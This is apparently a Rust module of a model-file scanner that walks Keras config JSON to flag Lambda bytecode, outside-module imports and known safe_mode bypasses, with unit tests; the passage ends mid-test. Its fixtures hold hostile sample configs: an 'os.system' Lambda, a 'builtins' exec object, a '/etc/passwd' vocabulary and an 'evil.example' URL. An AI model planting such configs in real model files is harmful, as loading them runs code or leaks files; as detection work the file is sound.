//! Keras model-config inspector, for the `config.json` inside a Keras 3 `.keras` archive and
//! for the `model_config` / `training_config` JSON attributes of a legacy Keras 2 HDF5 file.
//! Loading a Keras model rebuilds every object its config names, so the config is where a
//! model carries code: a `Lambda` layer holds marshalled Python bytecode (or names a function
//! to import), a `__lambda__` object does the same anywhere in Keras 3 configs, and any object
//! whose `module` lies outside the Keras packages makes the loader import that module and
//! call into it (the `module: "builtins"` / `"os"` tricks behind the Keras `safe_mode`
//! bypasses). We walk the parsed JSON iteratively, so nested models and
//! `TimeDistributed`/`Bidirectional` wrappers are covered without recursion.
//!
//! JSON nesting is bounded twice: `serde_json` refuses documents nested deeper than its
//! default recursion limit of 128, and our walk stops at `Limits::max_depth`.

use std::collections::BTreeMap;

use serde::Serialize;
use serde_json::Value;

use super::problem::{Problem, ProblemKind, excerpt};

/// Bounds for the Keras config walk.
#[derive(Debug, Clone)]
pub struct Limits {
    /// Largest config document accepted, in bytes.
    pub max_config_bytes: usize,
    /// Deepest JSON nesting walked (serde_json itself stops at 128).
    pub max_depth: usize,
    /// Most distinct layer classes recorded.
    pub max_layer_classes: usize,
    /// Most problems reported per document.
    pub max_problems: usize,
}

impl From<&crate::model::limits::Limits> for Limits {
    /// A Keras config is a JSON document: `json_bytes` and `json_depth`. Layer classes and
    /// problems kept are fixed internal caps on the report.
    fn from(l: &crate::model::limits::Limits) -> Self {
        use crate::model::limits::usize_of;
        Self {
            max_config_bytes: usize_of(l.json_bytes),
            max_depth: usize_of(l.json_depth),
            max_layer_classes: 1024,
            max_problems: 256,
        }
    }
}

impl Default for Limits {
    fn default() -> Self {
        Self::from(&crate::model::limits::Limits::default())
    }
}

/// What a Keras config describes.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Facts {
    /// Top-level `class_name` ("Sequential", "Functional", "Model", a custom class...).
    pub class_name: Option<String>,
    /// Top-level `config.name`.
    pub model_name: Option<String>,
    /// `keras_version` when the document carries one (Keras 2 `to_json`).
    pub keras_version: Option<String>,
    /// `backend` when the document carries one.
    pub backend: Option<String>,
    /// Layers at every nesting level (entries of `layers`, and wrapped `layer`s).
    pub layer_count: u64,
    /// Layer classes with counts (at most `Limits::max_layer_classes` keys).
    pub layer_classes: BTreeMap<String, u64>,
    /// Names of `Lambda` layers.
    pub lambda_layers: Vec<String>,
    /// `module.class_name` of objects from outside the Keras packages.
    pub custom_objects: Vec<String>,
    /// Serialized objects embedded in the config (base64 in a `TorchModuleWrapper`'s `module`,
    /// or any long base64 string that decodes to a zip or pickle), for the pickle and archive
    /// inspectors. Not a fact of its own: what they find is reported for them.
    #[serde(skip)]
    pub embedded: Vec<Embedded>,
}

/// A serialized object found inside a Keras config, decoded.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Embedded {
    /// JSON path of the string that held it.
    pub path: String,
    /// The layer (or object) name around it, when known.
    pub layer: String,
    /// The decoded bytes.
    pub bytes: Vec<u8>,
}

/// Most embedded objects decoded per document.
const MAX_EMBEDDED: usize = 16;

/// Shortest string tried as a base64 payload: shorter ones are names, not serialized objects.
const MIN_EMBEDDED_CHARS: usize = 64;

/// Advisories per safe-mode bypass sub-code (`evidence.references`).
pub mod refs {
    /// Lookup layers reading a vocabulary file named by the config.
    pub const LOOKUP_FILE: &[&str] = &["CVE-2025-12058"];
    /// `TFSMLayer` loading an external SavedModel.
    pub const TFSM_LAYER: &[&str] = &["CVE-2026-1462"];
    /// `keras.utils.get_file` called while the config is rebuilt.
    pub const GET_FILE: &[&str] = &["CVE-2025-8747", "GHSA-c9rc-mg46-23w3"];
    /// `enable_unsafe_deserialization` reached from a config.
    pub const UNSAFE_DESERIALIZATION: &[&str] = &["CVE-2025-9906"];
    /// `TorchModuleWrapper` unpickling its base64 `module`.
    pub const TORCH_MODULE_WRAPPER: &[&str] = &["CVE-2025-49655"];
}

/// Lookup and vectorisation layers that read their vocabulary (or IDF weights) from a file when
/// the config gives a path instead of a list.
const LOOKUP_CLASSES: &[&str] = &[
    "StringLookup",
    "IndexLookup",
    "IntegerLookup",
    "TextVectorization",
];

/// Config keys of lookup layers that may hold a file path.
const LOOKUP_KEYS: &[&str] = &[
    "vocabulary",
    "idf_weights",
    "vocabulary_file",
    "vocabulary_path",
];

/// Config keys that, in any layer, name a file or model the constructor opens.
const FILE_KEYS: &[&str] = &[
    "filepath",
    "file_path",
    "saved_model_dir",
    "saved_model_path",
    "export_dir",
    "model_path",
    "origin",
];

/// Keras (and TensorFlow) helpers that download or open files, or load another model, when a
/// config names them as the class or function to rebuild: they live inside the `keras` package,
/// so `safe_mode` lets them through.
const FILE_HELPERS: &[&str] = &[
    "get_file",
    "load_model",
    "load_img",
    "image_dataset_from_directory",
    "text_dataset_from_directory",
    "audio_dataset_from_directory",
];

/// `metadata.json` of a Keras 3 archive.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Metadata {
    /// `keras_version`, e.g. "3.3.3".
    pub keras_version: Option<String>,
    /// `date_saved`.
    pub date_saved: Option<String>,
}

/// Packages whose objects Keras itself provides.
pub const KERAS_MODULES: &[&str] = &["keras", "keras_nlp", "keras_hub", "keras_cv", "tf_keras"];

fn is_keras_module(module: &str) -> bool {
    let root = module.split('.').next().unwrap_or("");
    KERAS_MODULES.contains(&root)
}

/// Parses a Keras 3 `metadata.json`.
pub fn parse_metadata(json: &[u8], limits: &Limits) -> Result<Metadata, Problem> {
    let value = parse(json, limits)?;
    let text = |key: &str| value.get(key).and_then(Value::as_str).map(str::to_owned);
    Ok(Metadata {
        keras_version: text("keras_version"),
        date_saved: text("date_saved"),
    })
}

fn parse(json: &[u8], limits: &Limits) -> Result<Value, Problem> {
    if json.len() > limits.max_config_bytes {
        return Err(Problem::new(
            ProblemKind::LimitExceeded,
            "config-too-large",
            format!(
                "keras config is {} bytes, over the limit of {}",
                json.len(),
                limits.max_config_bytes
            ),
            None,
        ));
    }
    serde_json::from_slice(json).map_err(|err| {
        Problem::new(
            ProblemKind::Malformed,
            "invalid-json",
            format!("keras config is not valid json: {err}"),
            None,
        )
    })
}

/// Checks a model config (Keras 3 `config.json` or Keras 2 `model_config`).
pub fn check_config(json: &[u8], limits: &Limits) -> (Facts, Vec<Problem>) {
    let mut facts = Facts::default();
    let value = match parse(json, limits) {
        Ok(value) => value,
        Err(problem) => return (facts, vec![problem]),
    };
    let text = |v: &Value, key: &str| v.get(key).and_then(Value::as_str).map(str::to_owned);
    facts.class_name = text(&value, "class_name");
    facts.model_name = value.get("config").and_then(|c| text(c, "name"));
    facts.keras_version = text(&value, "keras_version");
    facts.backend = text(&value, "backend");
    let problems = walk(&value, limits, &mut facts);
    (facts, problems)
}

/// Checks a Keras 2 `training_config` (custom losses, metrics and optimizers show up as
/// objects from outside Keras or as serialized lambdas).
pub fn check_training_config(json: &[u8], limits: &Limits) -> Vec<Problem> {
    match parse(json, limits) {
        Ok(value) => walk(&value, limits, &mut Facts::default()),
        Err(problem) => vec![problem],
    }
}

/// Where a JSON value sits, as far as layer counting cares.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Slot {
    Plain,
    /// The array under a `layers` key.
    LayerList,
    /// An entry of a layer list, or a wrapper's `layer`/`backward_layer`.
    Layer,
}

/// Longest JSON path kept for messages: keys are attacker-chosen and can be megabytes long.
const MAX_PATH_LEN: usize = 256;

fn child_path(path: &str, segment: &str) -> String {
    if path.len() >= MAX_PATH_LEN {
        return path.to_owned();
    }
    let segment: String = segment.chars().take(64).collect();
    format!("{path}/{segment}")
}

fn walk(root: &Value, limits: &Limits, facts: &mut Facts) -> Vec<Problem> {
    let mut problems = Vec::new();
    // (value, depth, what the parent says it is, JSON path for messages)
    let mut stack: Vec<(&Value, usize, Slot, String)> = vec![(root, 0, Slot::Plain, String::new())];
    let mut too_deep = false;
    while let Some((value, depth, slot, path)) = stack.pop() {
        if depth > limits.max_depth {
            too_deep = true;
            continue;
        }
        match value {
            Value::Array(items) => {
                let item_slot = if slot == Slot::LayerList {
                    Slot::Layer
                } else {
                    Slot::Plain
                };
                for (i, item) in items.iter().enumerate().rev() {
                    stack.push((
                        item,
                        depth + 1,
                        item_slot,
                        child_path(&path, &i.to_string()),
                    ));
                }
            }
            Value::String(text) => check_string(text, &path, limits, facts, &mut problems),
            Value::Object(map) => {
                for key in map.keys() {
                    check_unsafe_switch(key, &path, &mut problems);
                }
                // A lambda's own config (its module, its code) is reported once, not again.
                if !check_object(
                    map,
                    slot == Slot::Layer,
                    &path,
                    limits,
                    facts,
                    &mut problems,
                ) {
                    continue;
                }
                // Reverse so that objects are visited in document order.
                let mut children: Vec<_> = map.iter().collect();
                children.reverse();
                for (key, child) in children {
                    let child_slot = match key.as_str() {
                        "layers" => Slot::LayerList,
                        "layer" | "backward_layer" => Slot::Layer,
                        _ => Slot::Plain,
                    };
                    stack.push((child, depth + 1, child_slot, child_path(&path, key)));
                }
            }
            _ => {}
        }
    }
    if too_deep {
        problems.push(Problem::new(
            ProblemKind::LimitExceeded,
            "too-deep",
            format!(
                "keras config nests deeper than {}; deeper objects were not checked",
                limits.max_depth
            ),
            None,
        ));
    }
    let total = problems.len();
    if total > limits.max_problems {
        problems.truncate(limits.max_problems);
        problems.push(Problem::new(
            ProblemKind::LimitExceeded,
            "too-many-problems",
            format!(
                "{total} problems found; only the first {} are listed",
                limits.max_problems
            ),
            None,
        ));
    }
    problems
}

/// Records one JSON object; returns whether its children should be walked.
fn check_object(
    map: &serde_json::Map<String, Value>,
    is_layer: bool,
    path: &str,
    limits: &Limits,
    facts: &mut Facts,
    problems: &mut Vec<Problem>,
) -> bool {
    let class_name = map.get("class_name").and_then(Value::as_str);
    let config = map.get("config");
    let name = config
        .and_then(|c| c.get("name"))
        .or_else(|| map.get("name"))
        .and_then(Value::as_str)
        .unwrap_or("");
    let at = if path.is_empty() { "/" } else { path };
    if let (true, Some(class)) = (is_layer, class_name) {
        facts.layer_count += 1;
        if let Some(count) = facts.layer_classes.get_mut(class) {
            *count += 1;
        } else if facts.layer_classes.len() < limits.max_layer_classes {
            facts.layer_classes.insert(class.to_owned(), 1);
        }
    }
    match class_name {
        Some("Lambda") => {
            record_lambda(config, name, at, facts, problems);
            return false;
        }
        Some("__lambda__") => {
            problems.push(
                Problem::new(
                    ProblemKind::Unsafe,
                    "serialized-lambda",
                    format!("serialized python lambda at {}", excerpt(at, 200)),
                    None,
                )
                .with("path", excerpt(at, 200)),
            );
            return false;
        }
        Some("TFOpLambda") => {
            let function = config
                .and_then(|c| c.get("function"))
                .and_then(Value::as_str)
                .unwrap_or("");
            problems.push(
                Problem::new(
                    ProblemKind::Note,
                    "tf-op-lambda",
                    format!(
                        "layer '{}' calls tensorflow op '{}' by name",
                        excerpt(name, 200),
                        excerpt(function, 200)
                    ),
                    None,
                )
                .with("layer", excerpt(name, 200))
                .with("function", excerpt(function, 200)),
            );
        }
        _ => {}
    }
    check_bypasses(map, class_name, name, path, limits, facts, problems);
    check_custom_object(map, class_name, config, at, facts, problems);
    true
}

/// A Lambda layer runs code on load: serialized bytecode, or a named function imported
/// from a module. Records the layer and its finding, then checks a named helper.
fn record_lambda(
    config: Option<&Value>,
    name: &str,
    at: &str,
    facts: &mut Facts,
    problems: &mut Vec<Problem>,
) {
    let function = config.and_then(|c| c.get("function"));
    let function_type = config
        .and_then(|c| c.get("function_type"))
        .and_then(Value::as_str)
        .unwrap_or("");
    let bytecode = function_type == "lambda"
        || matches!(function, Some(Value::Array(_)))
        || function
            .and_then(|f| f.get("class_name"))
            .and_then(Value::as_str)
            == Some("__lambda__");
    let named = function
        .and_then(|f| {
            f.as_str()
                .or_else(|| f.get("config").and_then(Value::as_str))
        })
        .filter(|_| !bytecode);
    let module = config
        .and_then(|c| c.get("module"))
        .or_else(|| function.and_then(|f| f.get("module")))
        .and_then(Value::as_str);
    facts.lambda_layers.push(name.to_owned());
    let what = if bytecode {
        "holds serialized python bytecode".to_owned()
    } else {
        format!(
            "imports function '{}' from module '{}'",
            excerpt(named.unwrap_or("?"), 100),
            excerpt(module.unwrap_or("?"), 100)
        )
    };
    let mut problem = Problem::new(
        ProblemKind::Unsafe,
        "lambda-layer",
        format!(
            "lambda layer '{}' at {} {what}",
            excerpt(name, 200),
            excerpt(at, 200)
        ),
        None,
    )
    .with("layer", excerpt(name, 200))
    .with("bytecode", bytecode.to_string())
    .with("path", excerpt(at, 200));
    if !function_type.is_empty() {
        problem = problem.with("function_type", excerpt(function_type, 50));
    }
    if let Some(module) = module {
        problem = problem.with("module", excerpt(module, 200));
    }
    if let Some(named) = named {
        problem = problem.with("function", excerpt(named, 200));
    }
    problems.push(problem);
    if let Some(named) = named {
        check_helper(named, module, name, at, problems);
    }
}

/// An object whose module (or registered package) lies outside Keras is imported on load:
/// records it as a custom object with its finding.
fn check_custom_object(
    map: &serde_json::Map<String, Value>,
    class_name: Option<&str>,
    config: Option<&Value>,
    at: &str,
    facts: &mut Facts,
    problems: &mut Vec<Problem>,
) {
    let module = map.get("module").and_then(Value::as_str);
    let registered = map.get("registered_name").and_then(Value::as_str);
    let outside = match (module, registered) {
        // A serialized object names its class; a bare `module` key is a layer argument (the
        // base64 payload of a TorchModuleWrapper, which check_bypasses covers).
        (Some(_), None) if class_name.is_none() => false,
        (Some(module), _) => !is_keras_module(module),
        // `package>Name` is how Keras 3 records a registered custom object.
        (None, Some(reg)) => reg
            .split_once('>')
            .is_some_and(|(package, _)| !is_keras_module(package)),
        (None, None) => false,
    };
    if outside {
        let label = format!("{}.{}", module.unwrap_or("?"), class_name.unwrap_or("?"));
        facts.custom_objects.push(label.clone());
        let mut problem = Problem::new(
            ProblemKind::Unsafe,
            "custom-object",
            format!(
                "object '{}' at {} comes from outside the keras packages and is imported on load",
                excerpt(&label, 200),
                excerpt(at, 200)
            ),
            None,
        )
        .with("class_name", excerpt(class_name.unwrap_or(""), 200))
        .with("path", excerpt(at, 200));
        if let Some(module) = module {
            problem = problem.with("module", excerpt(module, 200));
        }
        if let Some(registered) = registered {
            problem = problem.with("registered_name", excerpt(registered, 200));
        }
        if let Some(Value::String(config)) = config {
            problem = problem.with("config", excerpt(config, 200));
        }
        problems.push(problem);
    }
}

/// Whether a path given in a config reaches outside the model archive: `url`, `absolute` or
/// `traversal`; `None` for a relative path inside it (an `assets/` vocabulary).
pub fn outside_path(path: &str) -> Option<&'static str> {
    let p = path.trim();
    let bytes = p.as_bytes();
    if p.contains("://") {
        return Some("url");
    }
    let drive = bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':';
    if p.starts_with(['/', '\\', '~']) || drive {
        return Some("absolute");
    }
    if p.split(['/', '\\']).any(|c| c == "..") {
        return Some("traversal");
    }
    None
}

fn unsafe_problem(code: &'static str, message: String, at: &str, refs: &[&str]) -> Problem {
    let mut p =
        Problem::new(ProblemKind::Unsafe, code, message, None).with("path", excerpt(at, 200));
    if !refs.is_empty() {
        p = p.with("references", refs.join(","));
    }
    p
}

/// The Keras `safe_mode` bypasses that need no code outside Keras: lookup layers and file keys
/// reading paths outside the archive, `TFSMLayer`, file helpers named as classes or functions,
/// `TorchModuleWrapper`'s pickled module.
fn check_bypasses(
    map: &serde_json::Map<String, Value>,
    class_name: Option<&str>,
    name: &str,
    path: &str,
    limits: &Limits,
    facts: &mut Facts,
    problems: &mut Vec<Problem>,
) {
    let at = if path.is_empty() { "/" } else { path };
    let config = map.get("config");
    let config_map = config.and_then(Value::as_object);
    let class = class_name.unwrap_or("");
    let module = map.get("module").and_then(Value::as_str);
    if let Some(cfg) = config_map {
        // CVE-2025-12058: `vocabulary: "/etc/passwd"` (or a URL) is read at load, safe mode or not.
        if LOOKUP_CLASSES.contains(&class) {
            for key in LOOKUP_KEYS {
                let Some(Value::String(value)) = cfg.get(*key) else {
                    continue;
                };
                let Some(how) = outside_path(value) else {
                    continue;
                };
                let message = format!(
                    "{class} layer '{}' at {at} reads its `{key}` from {how} path '{}' when loaded",
                    excerpt(name, 200),
                    excerpt(value, 200)
                );
                problems.push(
                    unsafe_problem("lookup-file", message, at, refs::LOOKUP_FILE)
                        .with("layer", excerpt(name, 200))
                        .with("key", *key)
                        .with("file", excerpt(value, 200)),
                );
            }
        }
        // CVE-2026-1462: TFSMLayer loads (and later runs) whatever SavedModel `filepath` names.
        if class == "TFSMLayer" {
            let file = cfg.get("filepath").and_then(Value::as_str).unwrap_or("?");
            let message = format!(
                "TFSMLayer '{}' at {at} loads the external SavedModel '{}' when the model is loaded",
                excerpt(name, 200),
                excerpt(file, 200)
            );
            problems.push(
                unsafe_problem("external-savedmodel", message, at, refs::TFSM_LAYER)
                    .with("layer", excerpt(name, 200))
                    .with("file", excerpt(file, 200)),
            );
        } else {
            for key in FILE_KEYS {
                let Some(Value::String(value)) = cfg.get(*key) else {
                    continue;
                };
                let Some(how) = outside_path(value) else {
                    continue;
                };
                let message = format!(
                    "{} '{}' at {at} opens {how} path '{}' (config key `{key}`) when loaded",
                    excerpt(if class.is_empty() { "object" } else { class }, 100),
                    excerpt(name, 200),
                    excerpt(value, 200)
                );
                problems.push(
                    unsafe_problem("external-file", message, at, &[])
                        .with("layer", excerpt(name, 200))
                        .with("key", *key)
                        .with("file", excerpt(value, 200)),
                );
            }
        }
        if let Some(Value::String(function)) = cfg.get("function") {
            check_helper(function, module, name, at, problems);
        }
        // CVE-2025-49655: the wrapped torch module is `torch.load`ed from base64 in the config.
        if class == "TorchModuleWrapper" {
            let module_path = child_path(&child_path(path, "config"), "module");
            let payload = cfg.get("module").and_then(Value::as_str).unwrap_or("");
            let decoded = decode_payload(payload, limits);
            let message = format!(
                "TorchModuleWrapper '{}' at {at} carries a serialized torch module ({} bytes) that torch.load unpickles when the model is loaded",
                excerpt(name, 200),
                decoded.as_ref().map_or(0, Vec::len)
            );
            problems.push(
                unsafe_problem("embedded-object", message, at, refs::TORCH_MODULE_WRAPPER)
                    .with("layer", excerpt(name, 200))
                    .with("class_name", "TorchModuleWrapper"),
            );
            if let Some(bytes) = decoded {
                push_embedded(facts, module_path, name, bytes);
            }
        }
    }
    // CVE-2025-8747: `{"module": "keras.utils", "class_name": "get_file", "config": {...}}` or a
    // function object naming it; the object is rebuilt by calling it.
    let mut named: Vec<&str> = vec![class];
    if let Some(Value::String(c)) = config {
        named.push(c);
    }
    if let Some(r) = map.get("registered_name").and_then(Value::as_str) {
        named.push(r);
    }
    for candidate in named {
        if check_helper(candidate, module, name, at, problems) {
            break;
        }
    }
}

/// Reports a reference to a file/download helper; returns whether it was one.
fn check_helper(
    reference: &str,
    module: Option<&str>,
    layer: &str,
    at: &str,
    problems: &mut Vec<Problem>,
) -> bool {
    let last = reference.rsplit(['.', '>', ':']).next().unwrap_or("");
    if !FILE_HELPERS.contains(&last) {
        return false;
    }
    let callable = match module {
        Some(m) if !reference.contains(['.', '>']) => format!("{m}.{reference}"),
        _ => reference.to_owned(),
    };
    let refs: &[&str] = if last == "get_file" {
        refs::GET_FILE
    } else {
        &[]
    };
    let message = format!(
        "config at {at} calls '{}' while the model is rebuilt (downloads or opens files; safe_mode does not stop keras' own helpers)",
        excerpt(&callable, 200)
    );
    problems.push(
        unsafe_problem("file-helper", message, at, refs)
            .with("layer", excerpt(layer, 200))
            .with("callable", excerpt(&callable, 200)),
    );
    true
}

/// CVE-2025-9906: a config that names `enable_unsafe_deserialization` turns safe mode off for
/// the rest of the load (a later Lambda then runs).
fn check_unsafe_switch(text: &str, path: &str, problems: &mut Vec<Problem>) {
    if !text.contains("enable_unsafe_deserialization") {
        return;
    }
    let at = if path.is_empty() { "/" } else { path };
    let message = format!(
        "config at {at} names '{}', which turns keras safe_mode off during the load",
        excerpt(text, 200)
    );
    problems.push(
        unsafe_problem(
            "unsafe-deserialization",
            message,
            at,
            refs::UNSAFE_DESERIALIZATION,
        )
        .with("callable", excerpt(text, 200)),
    );
}

/// Every string: the safe-mode switch, and base64 payloads that decode to a zip or a pickle
/// (serialized objects a custom layer would unpickle).
fn check_string(
    text: &str,
    path: &str,
    limits: &Limits,
    facts: &mut Facts,
    problems: &mut Vec<Problem>,
) {
    check_unsafe_switch(text, path, problems);
    if text.len() < MIN_EMBEDDED_CHARS || facts.embedded.iter().any(|e| e.path == path) {
        return;
    }
    // Decode a prefix first: most long strings are not payloads.
    let head = text.get(..12).unwrap_or("");
    let Ok(prefix) = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, head)
    else {
        return;
    };
    if !is_serialized(&prefix) {
        return;
    }
    let Some(bytes) = decode_payload(text, limits) else {
        return;
    };
    let at = if path.is_empty() { "/" } else { path };
    let kind = if bytes.starts_with(b"PK") {
        "zip archive"
    } else {
        "pickle"
    };
    let message = format!(
        "config string at {at} is a base64 {kind} ({} bytes) that a custom layer would deserialize",
        bytes.len()
    );
    problems.push(unsafe_problem("embedded-object", message, at, &[]));
    push_embedded(facts, path.to_owned(), "", bytes);
}

/// A zip local header or a pickle PROTO 2..5 opcode.
fn is_serialized(bytes: &[u8]) -> bool {
    bytes.starts_with(b"PK\x03\x04")
        || (bytes.first() == Some(&0x80) && matches!(bytes.get(1), Some(2..=5)))
}

/// Decodes standard base64 (padded or not), bounded by the config size limit.
fn decode_payload(text: &str, limits: &Limits) -> Option<Vec<u8>> {
    use base64::Engine;
    if text.len() > limits.max_config_bytes {
        return None;
    }
    let text = text.trim();
    base64::engine::general_purpose::STANDARD
        .decode(text)
        .or_else(|_| base64::engine::general_purpose::STANDARD_NO_PAD.decode(text))
        .ok()
}

fn push_embedded(facts: &mut Facts, path: String, layer: &str, bytes: Vec<u8>) {
    if facts.embedded.len() < MAX_EMBEDDED {
        facts.embedded.push(Embedded {
            path,
            layer: layer.to_owned(),
            bytes,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(problems: &[Problem]) -> Vec<&'static str> {
        problems.iter().map(|p| p.code).collect()
    }

    const KERAS2_LAMBDA: &str = r#"{"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [null, 4], "name": "input_1"}},
        {"class_name": "Dense", "config": {"name": "dense", "units": 8, "activation": "relu"}},
        {"class_name": "Lambda", "config": {"name": "evil", "function": ["4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJO", null, null],
         "function_type": "lambda", "module": "__main__", "output_shape": null, "arguments": {}}},
        {"class_name": "TimeDistributed", "config": {"name": "td", "layer": {"class_name": "Dense", "config": {"name": "inner", "units": 2}}}}
    ]}, "keras_version": "2.12.0", "backend": "tensorflow"}"#;

    #[test]
    fn reports_lambda_layer_with_bytecode() {
        let (facts, problems) = check_config(KERAS2_LAMBDA.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["lambda-layer"]);
        let p = &problems[0];
        assert_eq!(p.kind, ProblemKind::Unsafe);
        assert_eq!(p.evidence.get("layer").map(String::as_str), Some("evil"));
        assert_eq!(p.evidence.get("bytecode").map(String::as_str), Some("true"));
        assert_eq!(facts.class_name.as_deref(), Some("Sequential"));
        assert_eq!(facts.keras_version.as_deref(), Some("2.12.0"));
        assert_eq!(facts.layer_count, 5);
        assert_eq!(facts.layer_classes.get("Dense"), Some(&2));
        assert_eq!(facts.lambda_layers, ["evil"]);
    }

    #[test]
    fn reports_named_function_lambda() {
        let json = r#"{"class_name": "Functional", "config": {"name": "m", "layers": [
            {"class_name": "Lambda", "name": "l", "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"}}]}}"#;
        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["lambda-layer"]);
        assert_eq!(
            problems[0].evidence.get("bytecode").map(String::as_str),
            Some("false")
        );
        assert_eq!(
            problems[0].evidence.get("function").map(String::as_str),
            Some("system")
        );
    }

    #[test]
    fn reports_keras3_lambda_and_custom_objects() {
        let json = r#"{"module": "keras", "class_name": "Sequential", "registered_name": null, "config": {"name": "s", "layers": [
            {"module": "keras.layers", "class_name": "Dense", "registered_name": null, "config": {"name": "d", "units": 1,
              "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": null}, "registered_name": null}}},
            {"module": "keras.layers", "class_name": "Lambda", "registered_name": null, "config": {"name": "lam",
              "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA", "defaults": null, "closure": null}}}},
            {"module": "my_project.layers", "class_name": "Fancy", "registered_name": "MyProject>Fancy", "config": {"name": "f"}},
            {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
        ]}}"#;
        let (facts, problems) = check_config(json.as_bytes(), &Limits::default());
        assert_eq!(
            codes(&problems),
            ["lambda-layer", "custom-object", "custom-object"]
        );
        assert_eq!(
            problems[0].evidence.get("bytecode").map(String::as_str),
            Some("true")
        );
        assert_eq!(
            problems[2].evidence.get("config").map(String::as_str),
            Some("exec")
        );
        assert_eq!(
            facts.custom_objects,
            ["my_project.layers.Fancy", "builtins.function"]
        );
        assert_eq!(facts.layer_count, 4);
    }

    #[test]
    fn accepts_keras_hub_objects() {
        let json = r#"{"module": "keras_hub.src.models.gemma.gemma_backbone", "class_name": "GemmaBackbone",
            "registered_name": "keras_hub>GemmaBackbone", "config": {"name": "gemma_backbone"}}"#;
        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
        assert!(problems.is_empty());
    }

    #[test]
    fn notes_tf_op_lambda() {
        let json = r#"{"class_name": "Functional", "config": {"layers": [
            {"class_name": "TFOpLambda", "config": {"name": "tf.math.add", "function": "math.add"}}]}}"#;
        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["tf-op-lambda"]);
        assert_eq!(problems[0].kind, ProblemKind::Note);
    }

    #[test]
    fn checks_training_config_objects() {
        let json = r#"{"loss": {"module": "evil_losses", "class_name": "Boom", "config": {}}, "metrics": ["accuracy"]}"#;
        let problems = check_training_config(json.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["custom-object"]);
    }

    #[test]
    fn finds_lambda_in_nested_bidirectional() {
        let json = r#"{"class_name": "Sequential", "config": {"layers": [{"class_name": "Bidirectional", "config": {"name": "b",
            "layer": {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "deep", "function": ["AA==", null, null]}}]}},
            "backward_layer": {"class_name": "LSTM", "config": {"name": "back"}}}}]}}"#;
        let (facts, problems) = check_config(json.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["lambda-layer"]);
        assert_eq!(facts.layer_count, 4);
    }

    #[test]
    fn rejects_invalid_and_oversized_json() {
        let (_, problems) = check_config(b"{\"class_name\": ", &Limits::default());
        assert_eq!(codes(&problems), ["invalid-json"]);
        let limits = Limits {
            max_config_bytes: 4,
            ..Limits::default()
        };
        let (_, problems) = check_config(b"{\"a\": 1}", &limits);
        assert_eq!(codes(&problems), ["config-too-large"]);
        // Deeper than serde_json's recursion limit.
        let deep = format!("{}{}", "[".repeat(200), "]".repeat(200));
        let (_, problems) = check_config(deep.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["invalid-json"]);
    }

    #[test]
    fn reports_depth_limit() {
        let deep = format!("{}{}", "[".repeat(20), "]".repeat(20));
        let limits = Limits {
            max_depth: 5,
            ..Limits::default()
        };
        let (_, problems) = check_config(deep.as_bytes(), &limits);
        assert_eq!(codes(&problems), ["too-deep"]);
    }

    #[test]
    fn parses_metadata() {
        let meta = parse_metadata(
            br#"{"keras_version": "3.3.3", "date_saved": "2024-05-01@10:00:00"}"#,
            &Limits::default(),
        )
        .unwrap();
        assert_eq!(meta.keras_version.as_deref(), Some("3.3.3"));
        assert!(parse_metadata(b"nope", &Limits::default()).is_err());
    }

    fn evidence<'a>(p: &'a Problem, key: &str) -> Option<&'a str> {
        p.evidence.get(key).map(String::as_str)
    }

    /// Issue 17, CVE-2025-12058: lookup layers whose vocabulary is a file outside the archive.
    #[test]
    fn issue_17_lookup_vocabulary_outside_archive_is_unsafe() {
        let json = r#"{"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [
            {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "lk", "vocabulary": "/etc/passwd"}},
            {"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": "https://evil.example/v.txt"}},
            {"module": "keras.layers", "class_name": "IntegerLookup", "config": {"name": "il", "vocabulary": "assets/../../secret"}},
            {"module": "keras.layers", "class_name": "IndexLookup", "config": {"name": "ix", "vocabulary": null, "idf_weights": "C:\\w.npy"}}
        ]}}"#;
        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
        assert_eq!(codes(&problems), ["lookup-file"; 4]);
        assert!(problems.iter().all(|p| p.kind == ProblemKind::Unsafe));
        assert_eq!(evidence(&problems[0], "layer"), Some("lk"));
        assert_eq!(evidence(&problems[0], "file"), Some("/etc/passwd"));
        assert_eq!(evidence(&problems[0], "references"), Some("CVE-2025-12058"));
        assert_eq!(evidence(&problems[3], "key"), Some("idf_weights"));
    }

    #[test]
    fn in_archive_vocabularies_are_clean() {
        let json = r#"{"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [
            {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "a", "vocabulary": ["cat", "dog"]}},
            {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "b", "vocabulary": "assets/vocab.txt"}},
            {"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "c", "vocabulary": null, "idf_weights": null}}
        ]}}"#;
        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
        assert!(problems.is_empty(), "{problems:?}");
    }

    /// Issue 17, CVE-2026-1462: TFSMLayer loads an external SavedModel; other layers' file keys.
    #[test]
    fn issue_17_tfsm_layer_and_external_files_are_unsafe() {
